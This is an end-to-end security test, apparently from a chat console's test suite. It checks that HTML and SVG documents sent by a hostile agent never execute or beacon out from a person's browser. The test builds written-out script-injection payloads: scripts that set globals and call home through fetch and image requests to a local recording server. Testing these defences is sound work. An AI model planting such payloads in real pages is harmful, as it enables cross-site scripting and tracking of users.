import { dataUrl, newAgent, PNG_1X1 } from "../support/fixtures";
import { startRecordingServer } from "../support/recording-server";
import { expect, test } from "../support/test";
import { signUp } from "./sign-up";

test.use({ ignoreHTTPSErrors: true });

declare global {
  interface Window {
    __agentRan?: string;
  }
}

/**
 * What a hostile agent tries: documents whose scripts set a global (in the console too, through
 * `opener`) and call home, and an image that would make the person's browser visit its server.
 */
function payloads(home: string) {
  const script = (from: string) =>
    `window.__agentRan="${from}";try{opener.__agentRan="${from}"}catch(e){}` +
    `try{parent.__agentRan="${from}"}catch(e){}` +
    `fetch("${home}/called-home/${from}-fetch",{mode:"no-cors"});` +
    `new Image().src="${home}/called-home/${from}-image";`;
  const html = `<!doctype html><html><body><h1>Invoice</h1><script>${script("html")}</script><img src="${home}/called-home/html-tag"></body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload='${script("svg-onload")}'><script>${script("svg")}</script><image href="${home}/called-home/svg-image" width="10" height="10"/></svg>`;
  return { html: Buffer.from(html), svg: Buffer.from(svg) };
}

test("an agent's HTML, SVG and remote image never run or call home from the person's browser", async ({
  page,
  context,
  request,
}) => {
  const server = await startRecordingServer((path) =>
    path.startsWith("/pixel") ? PNG_1X1 : "hello",
  );
  try {
    const { html, svg } = payloads(server.origin);
    const { agent, auth } = await newAgent({ name: "Hostile" });
    await signUp(page, "Vera Victim");
    await page.goto(`/chats/add?agent=${agent.num}`);
    await page.getByTestId("consent-add").click();
    await expect(page).toHaveURL(/\/chats\/cnv_\w+$/);
    const conversationId = page.url().split("/").at(-1) as string;

    const post = (data: Record<string, unknown>) =>
      request.post("/api/agent/v1/messages", { headers: auth, data: { conversationId, ...data } });
    const send = async (data: Record<string, unknown>) => {
      const response = await post(data);
      expect(response.status(), await response.text()).toBe(201);
      return (await response.json()).message;
    };
    await send({
      type: "document",
      content: "Your invoice",
      documentData: dataUrl("text/html", html),
      documentName: "invoice.html",
      documentMimeType: "text/html",
    });
    const svgDocument = await send({
      type: "document",
      content: "Our logo",
      documentData: dataUrl("image/svg+xml", svg),
      documentName: "logo.svg",
      documentMimeType: "image/svg+xml",
    });
    // The stored SVG cannot come back as an image to be shown inline: it was stored as a
    // passive download type, which no image field accepts.
    const reused = await post({
      type: "image",
      content: "again",
      imageData: svgDocument.document.data,
    });
    expect([reused.status(), (await reused.json()).error.code]).toEqual([400, "validation_error"]);
    // An image URL is fetched by the service, never by the browser; this one (a self-signed
    // https server) the service refuses to use.
    const remote = await post({
      type: "image",
      content: "a photo",
      imageData: `${server.origin}/pixel.png`,
    });
    expect([remote.status(), (await remote.json()).error.code]).toEqual([
      422,
      "media_fetch_failed",
    ]);

    const messages = page.getByTestId("chat-message");
    await expect(messages).toHaveCount(2);

    // Opening a document downloads it; nothing renders in the console's origin.
    for (const name of ["invoice.html", "logo.svg"]) {
      const download = page.waitForEvent("download");
      await messages.getByRole("link", { name: new RegExp(name.replace(".", "\\.")) }).click();
      expect((await download).suggestedFilename()).toBe(name);
    }

    // Opened straight in a tab (as a person might paste the link), each stored object still only
    // downloads, or at worst shows as an image: no page of the agent's ever runs.
    const mediaUrls = await messages.evaluateAll((items) =>
      items
        .map((li) => li.querySelector("a[href], img[src]"))
        .map((el) => el?.getAttribute("href") ?? el?.getAttribute("src") ?? "")
        .filter((src) => src.startsWith("/api/console/media/")),
    );
    expect(mediaUrls).toHaveLength(2);
    for (const url of mediaUrls) {
      const tab = await context.newPage();
      const downloaded = tab.waitForEvent("download", { timeout: 10_000 }).catch(() => null);
      await tab.goto(url).catch(() => {}); // a download aborts the navigation
      expect(await tab.evaluate(() => window.__agentRan), url).toBeUndefined();
      expect(await page.evaluate(() => window.__agentRan), url).toBeUndefined();
      expect(await downloaded, url).not.toBeNull();
      await tab.close();
    }
    for (const url of mediaUrls) {
      const response = await page.request.get(url);
      expect(response.headers()).toMatchObject({
        "x-content-type-options": "nosniff",
        "content-security-policy": expect.stringContaining("sandbox"),
        "content-disposition": expect.stringMatching(/^attachment/),
      });
      expect(response.headers()["content-type"]).not.toMatch(/html|svg|xml/);
    }

    // A reload renders the whole chat again; still nothing ran, nothing called home.
    await page.reload();
    await expect(messages).toHaveCount(2);
    await page.waitForLoadState("networkidle");
    expect(await page.evaluate(() => window.__agentRan)).toBeUndefined();
    expect(server.fromBrowsers()).toEqual([]);

    // Control: this browser does reach the agent's server when nothing stops it.
    const control = await context.newPage();
    await control.goto(`${server.origin}/control`);
    await control.close();
    expect(server.fromBrowsers().map((r) => r.path)).toContain("/control");
  } finally {
    await server.stop();
  }
});
